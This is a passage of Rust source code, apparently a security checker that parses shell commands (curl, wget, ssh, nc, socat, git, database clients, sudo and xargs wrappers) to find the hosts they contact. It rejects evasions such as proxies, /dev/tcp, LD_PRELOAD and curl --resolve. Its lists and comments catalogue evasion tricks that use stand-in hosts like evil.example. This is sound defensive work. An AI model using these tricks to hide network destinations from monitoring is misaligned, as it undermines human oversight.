        self.url(default_scheme, word, src)
    }

    /// `host`, `host:port` or `[v6]:port` in a host position (`-h`,
    /// `--host`), with a default port.
    fn host_port(&mut self, value: &str, default: Option<u16>, src: &str) -> Res {
        if let Some(why) = runtime_host(value) {
            return Err(ev(format!("host `{value}` {why}"), src));
        }
        let (h, p) = split_host_port(value, src)?;
        let host = known_host(h, src)?;
        let port = port_value(p, src)?.or(default);
        self.push(host, port, src.to_string());
        Ok(())
    }

    // -----------------------------------------------------------------------
    // Generic scan

    /// Scan any word for URLs, `user@host`, `host:port` and `/dev/tcp`.
    fn scan_word(&mut self, word: &str, src: &str) -> Res {
        self.scan_word_as_is(word, src)?;
        if word.contains(deleted_by_url_parsers) {
            self.deleted_controls_check(word, src)?;
        }
        Ok(())
    }

    /// WHATWG URL parsers (browsers, Node, the `url` crate) delete TAB, CR and LF anywhere in
    /// a URL, so `http<LF>s:evil.example` or `https:<CR>//evil.example` is a URL to them and
    /// none to the scan of the word as it is. Where a URL handed to such a parser could start
    /// (the word's start, or after a quote, bracket, `=`, `,`, `;` or `|`), read what it would
    /// see; a host that resolves and that the scan did not find is an evasion. (A host no DNS
    /// name can spell, `print(x)` from `as ws:<LF>print(x)` in a script, is not.)
    fn deleted_controls_check(&mut self, word: &str, src: &str) -> Res {
        let stripped: String = word
            .chars()
            .filter(|&c| !deleted_by_url_parsers(c))
            .collect();
        let starts = stripped.char_indices().filter_map(|(i, c)| {
            if i == 0 {
                Some(0)
            } else if matches!(
                c,
                '"' | '\'' | '`' | '(' | '[' | '{' | '<' | '=' | ',' | ';' | '|'
            ) {
                Some(i + c.len_utf8())
            } else {
                None
            }
        });
        let mut seen = Vec::new();
        for at in starts {
            // Parsers also trim leading C0 controls and spaces.
            let candidate = stripped
                .get(at..)
                .unwrap_or("")
                .trim_start_matches(|c: char| c <= ' ');
            let candidate = candidate
                .split(char::is_whitespace)
                .next()
                .unwrap_or(candidate);
            let Some((scheme, _)) = candidate.split_once(':') else {
                continue;
            };
            if !scheme.starts_with(|c: char| c.is_ascii_alphabetic())
                || !scheme
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
            {
                continue;
            }
            let Ok(parsed) = url::Url::parse(candidate) else {
                continue;
            };
            let Some(host) = parsed.host_str().and_then(|h| normalize::host(h).ok()) else {
                continue;
            };
            seen.push(host);
        }
        for host in seen {
            if !self.out.iter().any(|d| d.host == host) {
                return Err(ev(
                    format!(
                        "a URL to `{host}` appears once TAB, CR or LF are deleted, as URL parsers do"
                    ),
                    src,
                ));
            }
        }
        Ok(())
    }

    fn scan_word_as_is(&mut self, word: &str, src: &str) -> Res {
        if word.len() < 3 {
            return Ok(());
        }
        if let Some(bad) = slashless_special(word) {
            return Err(ev(
                format!("`{bad}` has a scheme but no `//`: parsers disagree on its host"),
                src,
            ));
        }
        // URLs anywhere in the word, including URLs inside other URLs
        // (`?next=https://b.com`); their text is masked for the token scan
        // below so their parts are not found twice.
        let mut spans: Vec<(usize, usize)> = Vec::new();
        let mut search = 0;
        while let Some(found) = word.get(search..).and_then(|s| s.find("://")) {
            let sep = search + found;
            search = sep + 3;
            let before = word.get(..sep).unwrap_or("");
            let scheme_start = before
                .char_indices()
                .rev()
                .take_while(|(_, c)| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
                .last()
                .map_or(sep, |(i, _)| i);
            let scheme_raw = word.get(scheme_start..sep).unwrap_or("");
            // A scheme starts with a letter: skip leading digits/symbols.
            let skip = scheme_raw
                .find(|c: char| c.is_ascii_alphabetic())
                .unwrap_or(scheme_raw.len());
            let scheme = scheme_raw.get(skip..).unwrap_or("");
            if !is_scheme(scheme) {
                continue;
            }
            let after = word.get(sep + 3..).unwrap_or("");
            let end = after.find(url_terminator).unwrap_or(after.len());
            let rest = after.get(..end).unwrap_or(after);
            // A delimiter that cuts the URL inside its authority and is followed by more
            // host-like text (`https://ok.com;.evil.com/`): a program that takes the whole
            // word as its URL sees another host than the prefix judged here. A closing
            // quote or bracket (`urlopen('https://a.com')`) is not that.
            let cut = after.get(end..).and_then(|t| t.chars().next());
            let more = after.get(end..).and_then(|t| t.chars().nth(1));
            // Non-ASCII too: IDNA maps some of it to `.` (`。`) or to nothing (soft hyphen).
            let host_like = |c: char| {
                c.is_alphanumeric()
                    || !c.is_ascii()
                    || matches!(c, '.' | '-' | '_' | '@' | ':' | '%')
            };
            // What lies between the cut and the end of the authority as a whole-word parser
            // sees it: a userinfo `@` there moves the host (`https://ok.org;;@evil.example/`).
            let tail_auth = after
                .get(end..)
                .unwrap_or("")
                .split(['/', '?', '#'])
                .next()
                .unwrap_or("");
            // WHATWG parsers delete TAB, CR and LF inside a URL and read on, past any number
            // of them (`https://ok.org<LF><LF>evil.example`).
            let stripped_by_parsers = cut.is_some_and(deleted_by_url_parsers);
            let after_deleted = after
                .get(end..)
                .and_then(|t| t.chars().find(|&c| !deleted_by_url_parsers(c)));
            if !rest.contains(['/', '?', '#'])
                && cut.is_some()
                && (tail_auth.contains('@')
                    // Past deleted characters, anything but the end of the authority
                    // joins the host (`ok.org<LF>_.evil.example`).
                    || (stripped_by_parsers
                        && after_deleted.is_some_and(|c| {
                            !(c.is_whitespace() || matches!(c, '/' | '?' | '#' | '\\'))
                        }))
                    || (cut.is_some_and(|c| !c.is_whitespace()) && more.is_some_and(host_like)))
            {
                return Err(ev(
                    format!(
                        "a URL's host is cut short by `{}` inside one word: parsers disagree on its host",
                        cut.unwrap_or(' ')
                    ),
                    src,
                ));
            }
            self.url(scheme, rest, src)?;
            spans.push((scheme_start + skip, sep + 3 + end));
        }
        let masked: String = word
            .char_indices()
            .map(|(i, c)| {
                if spans.iter().any(|&(a, b)| i >= a && i < b) {
                    ' '
                } else {
                    c
                }
            })
            .collect();

        for tok in masked.split(|c: char| {
            c.is_whitespace()
                || matches!(
                    c,
                    '"' | '\'' | ',' | ';' | '(' | ')' | '<' | '>' | '|' | '=' | '`'
                )
        }) {
            self.scan_token(tok, src)?;
        }
        Ok(())
    }

    fn scan_token(&mut self, tok: &str, src: &str) -> Res {
        if tok.len() < 4 {
            return Ok(());
        }
        for prefix in ["/dev/tcp/", "/dev/udp/"] {
            if let Some(pos) = tok.find(prefix) {
                let rest = tok.get(pos + prefix.len()..).unwrap_or("");
                let mut parts = rest.split('/');
                let host = parts.next().unwrap_or("");
                let port = parts.next().unwrap_or("");
                let host = known_host(host, src)?;
                let port = match port_value(port, src) {
                    Ok(p) => p,
                    // bash also accepts service names: port unknown.
                    Err(_) if port.bytes().all(|b| b.is_ascii_alphanumeric()) => None,
                    Err(e) => return Err(e),
                };
                self.push(host, port, src.to_string());
                return Ok(());
            }
        }
        // user@host[:path]
        if let Some((user, host_part)) = tok.split_once('@')
            && !user.is_empty()
            && !host_part.contains('@')
            && user
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-'))
        {
            let host = if host_part.starts_with('[') {
                host_part.split_inclusive(']').next().unwrap_or("")
            } else {
                host_part.split([':', '/']).next().unwrap_or("")
            };
            if let Some(h) = generic_host(host, false) {
                self.push(h, None, src.to_string());
                return Ok(());
            }
        }
        // host:port[/path]
        let hp = tok.split('/').next().unwrap_or(tok);
        if let Some((host, port)) = hp.rsplit_once(':')
            && !port.is_empty()
            && port.len() <= 5
            && port.bytes().all(|b| b.is_ascii_digit())
            && let Some(p) = super::pattern::parse_port(port)
            && let Some(h) = generic_host(host, true)
        {
            self.push(h, Some(p), src.to_string());
        }
        Ok(())
    }

    /// Generic scan of every word, with numbered sources.
    fn scan_all(&mut self, words: &[String], loc: &Loc, what: &str) -> Res {
        for (i, w) in words.iter().enumerate() {
            self.scan_word(w, &loc.src(what, i))?;
        }
        Ok(())
    }

    // -----------------------------------------------------------------------
    // Commands

    fn enter(&mut self, loc: &Loc) -> Res {
        self.depth += 1;
        self.commands += 1;
        if self.depth > MAX_DEPTH || self.commands > MAX_COMMANDS {
            return Err(ev(
                "command is nested too deeply or is too long to analyse",
                loc.src("command", 0),
            ));
        }
        Ok(())
    }

    /// Analyse one simple command (argv words).
    fn command(&mut self, words: &[String], loc: &Loc) -> Res {
        self.enter(loc)?;
        let r = self.command_inner(words, loc);
        self.depth -= 1;
        r
    }

    fn command_inner(&mut self, words: &[String], loc: &Loc) -> Res {
        let mut i = 0;
        while let Some(w) = get(words, i) {
            let Some((name, value)) = assignment(w) else {
                break;
            };
            // A lone assignment in a script sets a shell variable, not the
            // environment of a program: no `*HOST*` guess for it.
            let for_program = words.iter().skip(i).any(|w| assignment(w).is_none());
            self.assignment(
                name,
                value,
                &loc.src("environment assignment", i),
                for_program,
            )?;
            i += 1;
        }
        let Some(prog_word) = get(words, i) else {
            return Ok(());
        };
        let args = tail(words, i + 1);
        let aloc = loc.shift(i + 1);
        if let Some(why) = runtime_host(prog_word) {
            // `$CMD url`, `"$@"`, `curl${IFS}evil.com`: what runs, and with
            // which arguments, is only known at run time.
            return Err(ev(
                format!("program name `{prog_word}` {why}"),
                loc.src("program", i),
            ));
        }
        let prog = basename(prog_word);
        match prog {
            "env" => self.env(args, &aloc),
            "sudo" => self.wrapper(args, &aloc, &SUDO),
            "doas" => self.wrapper(args, &aloc, &DOAS),
            "xargs" => self.xargs(args, &aloc),
            "timeout" => self.wrapper_skip(args, &aloc, &TIMEOUT, 1),
            "nice" => self.nice(args, &aloc),
            "ionice" => self.wrapper(args, &aloc, &IONICE),
            "exec" => self.wrapper(args, &aloc, &EXEC),
            "command" | "builtin" | "nohup" => self.wrapper(args, &aloc, &NONE),
            "time" => self.wrapper(args, &aloc, &TIME),
            "stdbuf" => self.wrapper(args, &aloc, &STDBUF),
            "setsid" => self.wrapper(args, &aloc, &NONE),
            "taskset" => self.wrapper_skip(args, &aloc, &TASKSET, 1),
            "strace" => self.wrapper(args, &aloc, &STRACE),
            "busybox" => self.command(args, &aloc),
            "eval" => {
                let script = args.join(" ");
                self.script(&script, &aloc.nested("eval", 0))
            }
            p if SHELLS.contains(&p) => self.shell(p, args, &aloc),
            p if PROXY_RUNNERS.contains(&p) => Err(ev(
                format!(
                    "`{p}` sends the command's traffic through a proxy, hiding its destination"
                ),
                loc.src("program", i),
            )),
            "curl" | "curlie" => self.curl(args, &aloc),
            "wget" => self.wget(args, &aloc),
            "http" | "https" | "xh" | "xhs" => self.httpie(prog, args, &aloc),
            "ssh" => self.ssh(args, &aloc),
            "scp" => self.scp(args, &aloc),
            "sftp" => self.sftp(args, &aloc),
            "rsync" => self.rsync(args, &aloc),
            "git" => self.git(args, &aloc),
            "redis-cli" => self.redis(args, &aloc),
            "psql" | "pg_dump" | "pg_dumpall" | "pg_restore" | "pg_isready" | "pgbench"
            | "createdb" | "dropdb" => self.psql(prog, args, &aloc),
            "mysql" | "mariadb" | "mysqldump" | "mysqladmin" => self.mysql(prog, args, &aloc),
            "mongosh" | "mongo" => self.mongo(prog, args, &aloc),
            "nc" | "ncat" | "netcat" => self.nc(prog, args, &aloc),
            "telnet" => self.telnet(args, &aloc),
            "socat" => self.socat(args, &aloc),
            "alias" => Err(ev(
                "`alias` redefines command names, which hides what later commands run",
                loc.src("program", i),
            )),
            "export" | "declare" | "typeset" | "readonly" | "local" => {
                for (k, w) in args.iter().enumerate() {
                    if let Some((name, value)) = assignment(w) {
                        self.assignment(name, value, &aloc.src(prog, k), true)?;
                    }
                }
                Ok(())
            }
            p if LOCAL_ONLY.contains(&p) => Ok(()),
            p if RUNNERS.contains(&p) => self.runner(p, args, &aloc),
            p => self.unknown(p, args, &aloc),
        }
    }

    /// `NAME=value` before a command, in `env`, or in a script.
    fn assignment(&mut self, name: &str, value: &str, src: &str, for_program: bool) -> Res {
        let upper = name.to_ascii_uppercase();
        let hidden = [
            "GIT_SSH",
            "GIT_SSH_COMMAND",
            "GIT_PROXY_COMMAND",
            "GIT_CONFIG",
            "GIT_CONFIG_PARAMETERS",
            "GIT_CONFIG_COUNT",
            "GIT_CONFIG_GLOBAL",
            "GIT_CONFIG_SYSTEM",
            "GIT_EXEC_PATH",
            "RSYNC_RSH",
            "RSYNC_CONNECT_PROG",
            "CURL_HOME",
            "WGETRC",
            "SYSTEM_WGETRC",
            "HOSTALIASES",
            "LOCALDOMAIN",
            "LD_PRELOAD",
            "LD_AUDIT",
            "BASH_ENV",
            "ENV",
            "PGSERVICE",
            "PGSERVICEFILE",
            "PGSYSCONFDIR",
        ];
        if (upper.ends_with("_PROXY") && upper != "NO_PROXY") || upper == "PROXY" {
            return Err(ev(
                format!(
                    "`{name}` set inline routes traffic through a proxy, hiding the destination"
                ),
                src,
            ));
        }
        if hidden.contains(&upper.as_str())
            || upper.starts_with("GIT_CONFIG_KEY_")
            || upper.starts_with("GIT_CONFIG_VALUE_")
        {
            return Err(ev(
                format!("`{name}` set inline can redirect connections or run hidden commands"),
                src,
            ));
        }
        self.scan_word(value, src)?;
        if for_program
            && upper.contains("HOST")
            && !value.is_empty()
            && !value.starts_with('/')
            && !value.contains("://")
        {
            if value.contains("{{") || value.contains('$') {
                return Err(ev(
                    format!(
                        "`{name}` {}",
                        runtime_host(value).unwrap_or("is not literal")
                    ),
                    src,
                ));
            }
            for part in value.split(',') {
                if part.is_empty() || part.starts_with('/') {
                    continue;
                }
                let host_part = split_host_port(part, src).map(|(h, _)| h).unwrap_or(part);
                if let Ok(h) = normalize::host(host_part)
                    && (h.contains('.') || h.contains(':') || h == "localhost")
                {
                    self.push(h, None, src.to_string());
                }
            }
        }
        Ok(())
    }

    /// A wrapper: skip its options, then analyse the wrapped command
    /// (which may start with `VAR=value` assignments, as `sudo` allows).
    fn wrapper(&mut self, args: &[String], loc: &Loc, spec: &Spec) -> Res {
        self.wrapper_skip(args, loc, spec, 0)
    }

    /// Like `wrapper`, skipping `skip` leading positionals (`timeout DUR`).
    fn wrapper_skip(&mut self, args: &[String], loc: &Loc, spec: &Spec, skip: usize) -> Res {
        let toks = spec.parse(args, true);
        let mut seen = 0;
        for t in &toks {
            match t {
                Tok::Opt {
                    value: Some(v),
                    vidx,
                    ..
                } => {
                    self.scan_word(v, &loc.src("option", *vidx))?;
                }
                Tok::Opt { .. } => {}
                Tok::Pos { idx, .. } => {
                    if seen == skip {
                        return self.command(tail(args, *idx), &loc.shift(*idx));
                    }
                    seen += 1;
                }
            }
        }
        Ok(())
    }

    fn env(&mut self, args: &[String], loc: &Loc) -> Res {
        let toks = ENV.parse(args, true);
        for t in &toks {
            match t {
                Tok::Opt {
                    name, value, vidx, ..
                } => {
                    if name == "-S" || is_long(name, &["split-string"]) {
                        // `env -S "cmd args"`: split and prepend.
                        let mut words: Vec<String> = value
                            .as_deref()
                            .unwrap_or("")
                            .split_whitespace()
                            .map(|w| w.trim_matches(['"', '\'']).to_string())
                            .collect();
                        words.extend(tail(args, vidx + 1).iter().cloned());
                        return self.command(&words, &loc.nested("env -S", *vidx));
                    }
                }
                Tok::Pos { idx, .. } => return self.command(tail(args, *idx), &loc.shift(*idx)),
            }
        }
        Ok(())
    }

    fn nice(&mut self, args: &[String], loc: &Loc) -> Res {
        // Old form `nice -10 cmd`.
        if get(args, 0).is_some_and(|w| {
            w.len() > 1 && w.starts_with('-') && w.bytes().skip(1).all(|b| b.is_ascii_digit())
        }) {
            return self.command(tail(args, 1), &loc.shift(1));
        }
        self.wrapper(args, loc, &NICE)
    }

    fn xargs(&mut self, args: &[String], loc: &Loc) -> Res {
        let toks = XARGS.parse(args, true);
        let mut replace: Option<String> = None;
        for t in &toks {
            match t {
                Tok::Opt { name, value, .. } => {
                    if name == "-I" || is_long(name, &["replace"]) {
                        replace = Some(value.clone().unwrap_or_else(|| "{}".to_string()));
                    } else if name == "-i" {
                        replace = Some(value.clone().unwrap_or_else(|| "{}".to_string()));
                    }
                }
                Tok::Pos { idx, .. } => {
                    let cmd = tail(args, *idx);
                    let prog = basename(cmd.first().map_or("", String::as_str));
                    return match &replace {
                        Some(r) if !r.is_empty() => {
                            let words: Vec<String> = cmd
                                .iter()
                                .map(|w| w.replace(r.as_str(), "{{xargs input}}"))
                                .collect();
                            self.command(&words, &loc.shift(*idx))
                        }
                        _ if is_known_program(prog) && !LOCAL_ONLY.contains(&prog) => Err(ev(
                            format!(
                                "xargs appends arguments read from stdin to `{prog}`: its destinations cannot be known"
                            ),
                            loc.src("xargs command", *idx),
                        )),
                        _ => self.command(cmd, &loc.shift(*idx)),
                    };
                }
            }
        }
        Ok(())
    }

    fn shell(&mut self, prog: &str, args: &[String], loc: &Loc) -> Res {
        let mut has_c = false;
        let mut i = 0;
        while let Some(w) = get(args, i) {
            if w == "--" || w == "-" {
                i += 1;
                break;
            }
            if let Some(long) = w.strip_prefix("--") {
                if matches!(long, "rcfile" | "init-file") {
                    i += 1;
                }
                i += 1;
                continue;
            }
            if (w.starts_with('-') || w.starts_with('+')) && w.len() > 1 {
                let flags = w.get(1..).unwrap_or("");
                if flags.contains('c') {
                    has_c = true;
                }
                // -o/-O take a value (bash `-o pipefail`).
                if flags.ends_with('o') || flags.ends_with('O') {
                    i += 1;
                }
                i += 1;
                continue;
            }
            break;
        }
        if has_c {
            let Some(script) = get(args, i) else {
                return Ok(());
            };
            // `$0 $1…` after the script: scanned, and unknown inside it.
            self.scan_all(tail(args, i + 1), &loc.shift(i + 1), "shell positional")?;
            return self.script(script, &loc.nested(&format!("`{prog} -c` script"), i));
        }
        if get(args, i).is_none() && self.in_script > 0 {
            return Err(ev(
                format!("`{prog}` reads its commands from standard input, which cannot be checked"),
                loc.src(prog, 0),
            ));
        }
        // A script file: its contents are not visible; scan its arguments.
        self.scan_all(tail(args, i), &loc.shift(i), "generic scan of")
    }

    fn runner(&mut self, prog: &str, args: &[String], loc: &Loc) -> Res {
        self.scan_all(args, loc, "generic scan of")?;
        for (i, w) in args.iter().enumerate() {
            // `-e NAME=value` / `--env=NAME=value` reach the inner command.
            let env = w.strip_prefix("--env=").unwrap_or(w);
            if let Some((name, value)) = assignment(env) {
                self.assignment(
                    name,
                    value,
                    &loc.src(&format!("{prog} environment"), i),
                    true,
                )?;
            }
            if program_word(w).is_some_and(is_known_program) && !(prog == "npm" && i == 0) {
                return self.command(tail(args, i), &loc.shift(i));
            }
            if w.contains(' ') && !w.starts_with('-') {
                self.script(w, &loc.nested(&format!("`{prog}` command string"), i))?;
            }
        }
        Ok(())
    }

    fn unknown(&mut self, _prog: &str, args: &[String], loc: &Loc) -> Res {
        self.scan_all(args, loc, "generic scan of")?;
        let host_flags = [
            "host",
            "hostname",
            "server",
            "endpoint",
            "endpoint-url",
            "url",
            "uri",
            "addr",
            "address",
            "base-url",
            "api-url",
            "registry",
        ];
        let mut i = 0;
        while let Some(w) = get(args, i) {
            if w == "--" {
                if let Some(next) = get(args, i + 1)
                    && program_word(next).is_some_and(is_known_program)
                {
                    return self.command(tail(args, i + 1), &loc.shift(i + 1));
                }
                break;
            }
            if let Some(long) = w.strip_prefix("--") {
                let (name, value, vidx) = match long.split_once('=') {
                    Some((n, v)) => (n, Some(v), i),
                    None => (long, get(args, i + 1), i + 1),
                };
                if host_flags.contains(&name)
                    && let Some(v) = value
                    && !v.contains("://")
                {
                    let src = loc.src(&format!("--{name}"), vidx);
                    if let Some(why) = runtime_host(v) {
                        return Err(ev(format!("host `{v}` {why}"), src));
                    }
                    let h = split_host_port(v, &src).map(|(h, _)| h).unwrap_or(v);
                    if let Ok(n) = normalize::host(h)
                        && (n.contains('.') || n.contains(':') || n == "localhost")
                    {
                        let port = split_host_port(v, &src)
                            .ok()
                            .and_then(|(_, p)| super::pattern::parse_port(p));
                        self.push(n, port, src);
                    }
                }
            }
            i += 1;
        }
        Ok(())
    }
}

/// `NAME=value` where NAME is a shell identifier.
fn assignment(w: &str) -> Option<(&str, &str)> {
    let (name, value) = w.split_once('=')?;
    let mut b = name.bytes();
    let ok = b
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == b'_')
        && b.all(|c| c.is_ascii_alphanumeric() || c == b'_');
    ok.then_some((name, value))
}

const NONE: Spec = Spec {
    short_val: "",
    short_attached: "",
    long_val: &[],
    long_val_prefix: &[],
};
const SUDO: Spec = Spec {
    short_val: "ugpCDrtUTR",
    short_attached: "",
    long_val: &[
        "user",
        "group",
        "prompt",
        "close-from",
        "chdir",
        "role",
        "type",
        "other-user",
        "command-timeout",
        "chroot",
        "host",
    ],
    long_val_prefix: &[],
};
const DOAS: Spec = Spec {
    short_val: "uC",
    short_attached: "",
    long_val: &[],
    long_val_prefix: &[],
};
const ENV: Spec = Spec {
    short_val: "uCSP",
    short_attached: "",
    long_val: &["unset", "chdir", "split-string"],
    long_val_prefix: &[],
};
const TIMEOUT: Spec = Spec {
    short_val: "sk",
    short_attached: "",
    long_val: &["signal", "kill-after"],
    long_val_prefix: &[],
};
const NICE: Spec = Spec {
    short_val: "n",
    short_attached: "",
    long_val: &["adjustment"],
    long_val_prefix: &[],
};
const IONICE: Spec = Spec {
    short_val: "cnpPu",
    short_attached: "",
    long_val: &["class", "classdata", "pid", "pgid", "uid"],
    long_val_prefix: &[],
};
const EXEC: Spec = Spec {
    short_val: "a",
    short_attached: "",
    long_val: &[],
    long_val_prefix: &[],
};
const TIME: Spec = Spec {
    short_val: "fo",
    short_attached: "",
    long_val: &["format", "output"],
    long_val_prefix: &[],
};
const STDBUF: Spec = Spec {
    short_val: "ioe",
    short_attached: "",
    long_val: &["input", "output", "error"],
    long_val_prefix: &[],
};
const TASKSET: Spec = Spec {
    short_val: "",
    short_attached: "",
    long_val: &[],
    long_val_prefix: &[],
};
const STRACE: Spec = Spec {
    short_val: "abeEIoOpPsSuUX",
    short_attached: "",
    long_val: &["output", "trace", "signal", "user", "attach", "env"],
    long_val_prefix: &[],
};
const XARGS: Spec = Spec {
    short_val: "aEIdLnPs",
    short_attached: "eil",
    long_val: &[
        "arg-file",
        "delimiter",
        "max-args",
        "max-procs",
        "max-chars",
        "process-slot-var",
    ],
    long_val_prefix: &[],
};

// ---------------------------------------------------------------------------
// HTTP clients

const CURL: Spec = Spec {
    short_val: "AbcCdDeEFHKmoPQrTuUwxXyYzt",
    short_attached: "",
    long_val: &[
        "abstract-unix-socket",
        "alt-svc",
        "aws-sigv4",
        "cacert",
        "capath",
        "cert",
        "cert-type",
        "ciphers",
        "config",
        "connect-timeout",
        "connect-to",
        "continue-at",
        "cookie",
        "cookie-jar",
        "create-file-mode",
        "crlfile",
        "curves",
        "data",
        "data-ascii",
        "data-binary",
        "data-raw",
        "data-urlencode",
        "delegation",
        "dns-interface",
        "dns-ipv4-addr",
        "dns-ipv6-addr",
        "dns-servers",
        "doh-url",
        "dump-header",
        "ech",
        "egd-file",
        "engine",
        "etag-compare",
        "etag-save",
        "expect100-timeout",
        "form",
        "form-string",
        "ftp-account",
        "ftp-alternative-to-user",
        "ftp-method",
        "ftp-port",
        "ftp-ssl-ccc-mode",
        "happy-eyeballs-timeout-ms",
        "haproxy-clientip",
        "header",
        "hostpubmd5",
        "hostpubsha256",
        "hsts",
        "interface",
        "ip-tos",
        "ipfs-gateway",
        "json",
        "keepalive-time",
        "keepalive-cnt",
        "key",
        "key-type",
        "krb",
        "libcurl",
        "limit-rate",
        "local-port",
        "login-options",
        "mail-auth",
        "mail-from",
        "mail-rcpt",
        "max-filesize",
        "max-redirs",
        "max-time",
        "netrc-file",
        "noproxy",
        "oauth2-bearer",
        "output",
        "output-dir",
        "pass",
        "pinnedpubkey",
        "preproxy",
        "proto",
        "proto-default",
        "proto-redir",
        "proxy",
        "proxy-cacert",
        "proxy-capath",
        "proxy-cert",
        "proxy-cert-type",
        "proxy-ciphers",
        "proxy-crlfile",
        "proxy-header",
        "proxy-key",
        "proxy-key-type",
        "proxy-pass",
        "proxy-pinnedpubkey",
        "proxy-service-name",
        "proxy-tls13-ciphers",
        "proxy-tlsauthtype",
        "proxy-tlspassword",
        "proxy-tlsuser",
        "proxy-user",
        "proxy1.0",
        "quote",
        "random-file",
        "range",
        "rate",
        "referer",
        "request",
        "request-target",
        "resolve",
        "retry",
        "retry-delay",
        "retry-max-time",
        "sasl-authzid",
        "service-name",
        "socks4",
        "socks4a",
        "socks5",
        "socks5-gssapi-service",
        "socks5-hostname",
        "speed-limit",
        "speed-time",
        "stderr",
        "telnet-option",
        "tftp-blksize",
        "time-cond",
        "tls-max",
        "tls13-ciphers",
        "tlsauthtype",
        "tlspassword",
        "tlsuser",
        "trace",
        "trace-ascii",
        "trace-config",
        "unix-socket",
        "upload-file",
        "url",
        "url-query",
        "user",
        "user-agent",
        "variable",
        "write-out",
        "ssl-sessions",
        "vlan-priority",
        "sigalgs",
    ],
    long_val_prefix: &["expand-"],
};

/// Why a curl long option hides or redirects the destination, if it does.
fn curl_evasive(long: &str) -> Option<&'static str> {
    Some(match long {
        "config" => "reads more options from a file",
        "resolve" | "connect-to" => "overrides where the host name connects",
        "proxy" | "preproxy" | "socks4" | "socks4a" | "socks5" | "socks5-hostname" | "proxy1.0" => {
            "sends the request through a proxy"
        }
        "unix-socket" | "abstract-unix-socket" => "connects to a socket instead of the host",
        "doh-url" | "dns-servers" => "changes how the host name resolves",
        "alt-svc" => "reads an alt-svc cache that can redirect to another host",
        "ipfs-gateway" => "sends ipfs:// requests to a gateway",
        "variable" => "builds arguments at run time",
        "location-trusted" => "sends credentials to any host a redirect names",
        l if l.starts_with("expand-") => "builds arguments at run time",
        _ => return None,
    })
}

/// A header that sets the Host (or comes from a file that could). The name
/// is compared trimmed: servers disagree about `Host :`.
fn host_header(value: &str) -> bool {
    let v = value.trim_start();
    let name = v.split([':', ';']).next().unwrap_or(v);
    v.starts_with('@') || name.trim().eq_ignore_ascii_case("host")
}

/// curl's scheme guess for a schemeless URL, from the host's first label.
fn curl_guess(word: &str) -> &'static str {
    let authority = word.split(['/', '?', '#']).next().unwrap_or(word);
    let host = authority
        .rsplit('@')
        .next()
        .unwrap_or(authority)
        .to_ascii_lowercase();
    for (prefix, scheme) in [
        ("ftp.", "ftp"),
        ("dict.", "dict"),
        ("ldap.", "ldap"),
        ("imap.", "imap"),
        ("smtp.", "smtp"),
        ("pop3.", "pop3"),
    ] {
        if host.starts_with(prefix) {
            return scheme;
        }
    }
    "http"
}

const WGET: Spec = Spec {
    short_val: "aeiBtOTwQPUlARDIXo",
    short_attached: "n",
    long_val: &[
        "output-file",
        "append-output",
        "execute",
        "input-file",
        "base",
        "config",
        "bind-address",
        "bind-dev",
        "tries",
        "output-document",
        "backups",
        "wait",
        "waitretry",
        "quota",
        "dns-timeout",
        "connect-timeout",
        "read-timeout",
        "timeout",
        "limit-rate",
        "user",
        "password",
        "http-user",
        "http-password",
        "ftp-user",
        "ftp-password",
        "proxy-user",
        "proxy-password",
        "header",
        "referer",
        "user-agent",
        "post-data",
        "post-file",
        "body-data",
        "body-file",
        "method",
        "load-cookies",
        "save-cookies",
        "certificate",
        "certificate-type",
        "private-key",
        "private-key-type",
        "ca-certificate",
        "ca-directory",
        "crl-file",
        "pinnedpubkey",
        "random-file",
        "egd-file",
        "secure-protocol",
        "ciphers",
        "hsts-file",
        "directory-prefix",
        "cut-dirs",
        "default-page",
        "level",
        "accept",
        "reject",
        "accept-regex",
        "reject-regex",
        "regex-type",
        "domains",
        "exclude-domains",
        "include-directories",
        "exclude-directories",
        "restrict-file-names",
        "local-encoding",
        "remote-encoding",
        "progress",
        "report-speed",
        "prefer-family",
        "input-metalink",
        "metalink-index",
        "preferred-location",
        "compression",
        "use-askpass",
        "retry-on-http-error",
    ],
    long_val_prefix: &[],
};

const WGET_EVASIVE: &[&str] = &[
    "execute",
    "input-file",
    "config",
    "span-hosts",
    "input-metalink",
];

const HTTPIE: Spec = Spec {
    short_val: "aAoPps",
    short_attached: "",
    long_val: &[
        "auth",
        "auth-type",
        "output",
        "print",
        "history-print",
        "style",
        "format-options",
        "session",
        "session-read-only",
        "verify",
        "cert",
        "cert-key",
        "cert-key-pass",
        "ssl",
        "ciphers",
        "timeout",
        "max-redirects",
        "max-headers",
        "boundary",
        "default-scheme",
        "raw",
        "response-charset",
        "response-mime",
        "pretty",
        "proxy",
        "resolve",
        "unix-socket",
        "interface",
        "http-version",
        "bearer",
    ],
    long_val_prefix: &[],
};

const HTTP_METHODS: &[&str] = &[
    "GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT",
];

impl Ctx {
    fn curl(&mut self, args: &[String], loc: &Loc) -> Res {
        let toks = CURL.parse(args, false);
        let mut proto_default: Option<String> = None;
        for t in &toks {
            if let Tok::Opt {
                name,
                value: Some(v),
                ..
            } = t
                && name == "--proto-default"
            {
                proto_default = Some(v.to_ascii_lowercase());
            }
        }
        for t in &toks {
            match t {
                Tok::Opt {
                    name,
                    value,
                    idx,
                    vidx,
                } => {
                    let src = loc.src("curl option", *idx);
                    let long = name.strip_prefix("--");
                    let why = match name.as_str() {
                        "-x" => Some("sends the request through a proxy"),
                        "-K" => Some("reads more options from a file"),
                        _ => long.and_then(curl_evasive),
                    };
                    if let Some(why) = why {
                        return Err(ev(format!("curl `{name}` {why}"), src));
                    }
                    let is_header =
                        name == "-H" || long == Some("header") || long == Some("proxy-header");
                    if is_header && value.as_deref().is_some_and(host_header) {
                        return Err(ev(
                            "curl Host header (or headers from a file) sends the request to a different host than the URL names",
                            src,
                        ));
                    }
                    if let Some(v) = value {
                        let vsrc = loc.src("curl option value", *vidx);
                        if long == Some("url") {
                            let scheme = proto_default
                                .clone()
                                .unwrap_or_else(|| curl_guess(v).to_string());
                            self.target(v, &scheme, &loc.src("curl URL", *vidx))?;
                        } else {
                            self.scan_word(v, &vsrc)?;
                        }
                    }
                }
                Tok::Pos { word, idx } => {
                    let scheme = proto_default
                        .clone()
